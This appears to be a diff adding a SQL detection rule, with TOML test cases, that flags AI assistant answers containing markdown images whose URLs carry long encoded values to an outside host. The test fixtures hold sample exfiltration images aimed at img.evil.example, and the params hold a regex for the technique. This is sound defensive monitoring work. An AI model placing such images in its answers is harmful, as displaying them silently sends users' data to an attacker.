@@ -1,0 +1,125 @@
+-- +++
+-- title = "Image in an answer carries data out"
+-- severity = "high"
+-- confidence = "medium"
+-- status = "stable"
+-- tier = "signal"
+-- since = "0.1.0"
+-- what = "An answer holds an image whose address carries a long encoded value that nothing before had shown."
+-- impact = "Displaying the answer sends the value to that host, without a click."
+-- false_positives = [
+--   "Charts and badges that are made by an address.",
+-- ]
+-- next_steps = [
+--   "Read the session around it: SELECT time, tool, arguments, outcome FROM calls WHERE session_id = '{session_id}' ORDER BY time",
+-- ]
+-- references = []
+-- tags = ["owasp-asi:2026:ASI01", "owasp-llm:2025:LLM05", "atlas:AML.T0077"]
+-- [params]
+-- pattern = "!\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
+-- [[case]]
+-- name = "an image with a long value"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", count = 1, evidence = ["e#4"] },
+-- ]
+-- [[case]]
+-- name = "value in the path"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![](https://e.example/a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2)", bytes = 63, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "e.example" },
+-- ]
+-- [[case]]
+-- name = "shown only afterwards"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:06:00Z, record_id = 6 },
+-- ]
+-- expect = [
+--   { count = 1 },
+-- ]
+-- [[case]]
+-- name = "another conversation showed it"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "d", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
+-- ]
+-- expect = [
+--   { count = 1 },
+-- ]
+-- [[case]]
+-- name = "a short badge"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![ci](https://ci.example/badge.svg?branch=main)", bytes = 47, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a link is not displayed by itself"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 78, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "the user gave the image"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m1", position = 1, role = "user", kind = "text", text = "see ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 83, time = 2026-03-01T09:01:00Z, record_id = 1 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a result held the image"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a result alone"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "the user alone"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "user", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "thinking is not displayed"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- +++
+WITH links AS (
+  SELECT m.*, regexp_match(m.text, $pattern)[1] AS address
+  FROM messages m
+  WHERE m.role = 'assistant' AND m.kind = 'text' AND regexp_like(m.text, $pattern)
+),
+known AS (
+  -- An address that the user, the system prompt or a result showed whole was only passed on.
+  SELECT DISTINCT l.message_id
+  FROM links l
+  JOIN messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
+  WHERE m.role <> 'assistant' AND strpos(m.text, l.address) > 0
+)
+SELECT
+  regexp_replace(regexp_replace(l.address, '^https?://', ''), '[/?#].*', '') AS subject,
+  'An answer to ' || l.login || ' shows an image whose address carries data: ' || defang(left(l.address, 160)) || '; whoever displays it sends that data out.' AS reason,
+  l.time AS first_seen,
+  l.time AS last_seen,
+  CAST(1 AS BIGINT) AS count,
+  l.session_id,
+  l.login,
+  l.device,
+  l.message_id AS key,
+  make_array(evidence(l.export_key, l.record_id)) AS evidence
+FROM links l
+LEFT JOIN known k ON k.message_id = l.message_id
+WHERE k.message_id IS NULL
+ORDER BY l.session_id, l.position, l.part, l.message_id
